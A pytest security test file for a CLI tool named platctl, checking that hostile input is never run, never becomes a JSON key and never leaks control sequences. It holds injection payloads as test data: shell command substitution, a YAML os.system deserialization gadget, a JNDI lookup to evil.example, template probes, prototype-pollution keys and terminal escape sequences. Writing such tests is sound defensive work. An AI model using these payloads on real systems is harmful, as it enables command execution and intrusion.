"""What hostile input can't do: be executed, lead elsewhere, hide in a message, or grow beyond what a host takes."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from platctl.forge.comment import MAX_LENGTH, read_comment
from render.oracles import HOSTILE, commands, hidden, html_parts, tokens
from running import Run, git, platctl

TEMPLATES = (
    "${{ secrets.GITHUB_TOKEN }} $(touch pwned) `touch pwned` ; touch pwned",
    "{0.__class__} {missing} {{7*7}} %s%n %(x)s {% raw %} <%= 7 %> #{7}",
    "!!python/object/apply:os.system ['touch pwned']",
    "=HYPERLINK(1) @SUM(1) ${jndi:ldap://evil.example/a} \\u0041 $HOME ~ *",
)

# A run that says what it started, whom it called, and what it opened.
AUDITED = """
import os, sys
seen = []
watched = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "pickle.find_class")
def hook(event, arguments):
    if event in watched or event.startswith(("socket.", "urllib.", "http.", "ftplib.", "smtplib.")):
        seen.append(f"{event} {[os.fsdecode(each) for each in arguments[1]] if event == watched[0] else arguments}")
    elif event == "open" and isinstance(arguments[0], str | bytes):
        opened.add(os.path.realpath(os.fsdecode(arguments[0])))
opened = set()
from platctl.cli import main
sys.addaudithook(hook)
try:
    main()
finally:
    import json
    print(json.dumps([seen, sorted(opened)]), file=sys.stderr)
"""


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository whose texts are templates, format strings and words of a shell, with a change."""
    folder = tmp_path_factory.mktemp("templates") / "repo"
    git(folder.parent, "init", "-q", "-b", "main", str(folder))
    text = "\n".join(
        f"""---
kind: component
id: c{number}
title: {json.dumps(each)}
owner: {json.dumps(each)}
version: 1.0.0
{json.dumps(each)}: {json.dumps(each)}
---
kind: consumer
id: u{number}
title: {json.dumps(each)}
product_manager: {json.dumps(each)}
uses: [{{component: c{number}, requires: "<2", note: {json.dumps(each)}}}]"""
        for number, each in enumerate(TEMPLATES)
    )
    model = folder / "model $(touch pwned) ${{ x }} {0}.yaml"
    model.write_text(text)
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "base")
    model.write_text(text.replace("1.0.0", "2.0.0"))
    return folder


def test_a_text_is_never_a_template_a_format_or_a_word_of_a_shell(templates: Path, tmp_path: Path) -> None:
    formats = ("text", "markdown", "json", "github", "sarif", "gitlab", "junit")
    reports = [part for name in formats for part in ("--report", f"{name}={tmp_path / name}")]
    arguments = ["-C", templates, "ci", "--base", "HEAD", "--comment", tmp_path / "comment", *reports]
    done = subprocess.run(
        [sys.executable, "-P", "-c", AUDITED, *map(str, arguments)], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1, done.stderr
    seen, opened = json.loads(done.stderr)
    started = [each.split("'")[1] for each in seen]
    # From Python 3.13 on, `subprocess` may start what it was asked for by `posix_spawn`.
    assert all(each.startswith(("subprocess.Popen ", "os.posix_spawn ")) for each in seen), seen
    assert {Path(each).name for each in started} == {"git"}
    allowed = (templates, tmp_path, Path(sys.prefix), Path(sys.base_prefix), Path(__file__).parents[2], Path("/dev"))
    assert [each for each in opened if not any(Path(each).is_relative_to(one.resolve()) for one in allowed)] == []
    assert not list(templates.rglob("pwned"))
    titles = {each["consumer"]["title"] for each in json.loads((tmp_path / "json").read_text())["impact"]["verdicts"]}
    assert titles == set(TEMPLATES)


def keys(value: object) -> set[str]:
    if isinstance(value, dict):
        return set(value) | {key for each in value.values() for key in keys(each)}
    return {key for each in value for key in keys(each)} if isinstance(value, list) else set()


def test_no_text_of_a_model_is_a_key_in_json(tmp_path: Path, run: Run) -> None:
    ids = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty")
    text = "---\n".join(f"kind: component\nid: {each}\n{each}: 1\nversion: 1.0.0\n" for each in ids)
    (tmp_path / "model.yaml").write_text(text)
    found = json.loads(run("validate", "--format", "json", cwd=tmp_path).stdout)
    assert len(found["diagnostics"]) > len(ids)
    assert keys(found).isdisjoint(ids)


def test_an_id_has_no_letters_that_look_like_others(tmp_path: Path, run: Run) -> None:
    ids = ("pаyments", "ｆｕｌｌ", "a\\u200bb", "a\\u202eb", "a\\U000E0041", "名前", "a/../b")
    text = "".join(f'---\nkind: team\nid: "{each}"\n' for each in ids)
    (tmp_path / "model.yaml").write_text(text, "utf-8")
    result = run("validate", "--format", "json", cwd=tmp_path)
    found = [each["finding"] for each in json.loads(result.stdout)["diagnostics"]]
    refused = {each["span"]["line"] for each in found if each["severity"] == "error"}
    assert refused == {3 * number for number in range(1, len(ids) + 1)}
    assert hidden(result.stdout) == []


# Messages ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("option", ["--format", "--today", "--rule"])
def test_what_somebody_wrote_on_the_command_line_is_shown_harmless(tmp_path: Path, run: Run, option: str) -> None:
    (tmp_path / "model.yaml").write_text("kind: team\nid: a\n")
    payload = "[/] [link=x]y \x1b[2J\x9b31m\u202e ##[error]x\n::error::z"
    result = run("validate", option, payload, cwd=tmp_path)
    assert result.returncode == 2
    assert hidden(result.stderr) == []
    assert commands(result.stderr) == []


BUG = """
import sys
from platctl.cli import app, main
def run(arguments):
    raise RuntimeError({payload!r})
app.run = run
main()
"""


def test_a_bug_is_said_in_two_lines_without_what_the_input_brought() -> None:
    code = BUG.format(payload="\n".join(HOSTILE))
    done = subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (3, "")
    first, second = done.stderr.splitlines()
    assert first.startswith("error: platctl failed: RuntimeError at ")
    help_ = "please report this line, `platctl --version` and what PLATCTL_TRACEBACK=1 shows"
    assert second == f"help: this is a bug in platctl; {help_}"


def test_the_traceback_of_a_bug_is_shown_on_request_and_harmless() -> None:
    code = BUG.format(payload="\n".join(HOSTILE))
    command, env = [sys.executable, "-P", "-c", code], {**os.environ, "PLATCTL_TRACEBACK": "1"}
    done = subprocess.run(command, env=env, capture_output=True, text=True, encoding="utf-8", timeout=60)
    assert (done.returncode, done.stdout) == (3, "")
    lines = done.stderr.split("\n")
    assert lines[2] == "Traceback (most recent call last):"
    assert any(line.startswith("RuntimeError: ") for line in lines)
    assert any(line.endswith(", in _guarded") for line in lines)
    assert hidden(done.stderr) == []
    assert commands(done.stderr) == []


# Sizes -------------------------------------------------------------------------------------------------------


def test_a_comment_about_thousands_stays_within_what_a_host_takes(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    git(tmp_path, "init", "-q", "-b", "main", str(folder))
    uses = "---\n".join(
        f"kind: consumer\nid: u{number}\ntitle: {'😀|<' * 9}\nuses: [{{component: c, requires: <2}}]\n"
        for number in range(2000)
    )
    (folder / "users.yaml").write_text(uses, "utf-8")
    (folder / "c.yaml").write_text("kind: component\nid: c\nversion: 1.0.0\n")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "base")
    (folder / "c.yaml").write_text("kind: component\nid: c\nversion: 2.0.0\n")
    result = platctl("ci", "--base", "HEAD", "--comment", "comment.md", "--format", "github", cwd=folder)
    assert result.returncode == 1
    assert len(commands(result.stdout)) == 20
    assert result.stdout.splitlines()[-1] == "Not shown as annotations: error 3,990, warning 1,991"
    text = (folder / "comment.md").read_text("utf-8")
    assert read_comment(folder / "comment.md").text
    assert 30_000 < len(text) <= MAX_LENGTH
    assert text.splitlines()[1].startswith("### Breaks 2,000 products.")
    parsed = [each for each in tokens(text) if each.type in ("html_block", "html_inline")]
    tags = [tag for each in parsed for tag in html_parts(each.content)[1]]
    assert tags.count("details") == tags.count("/details")
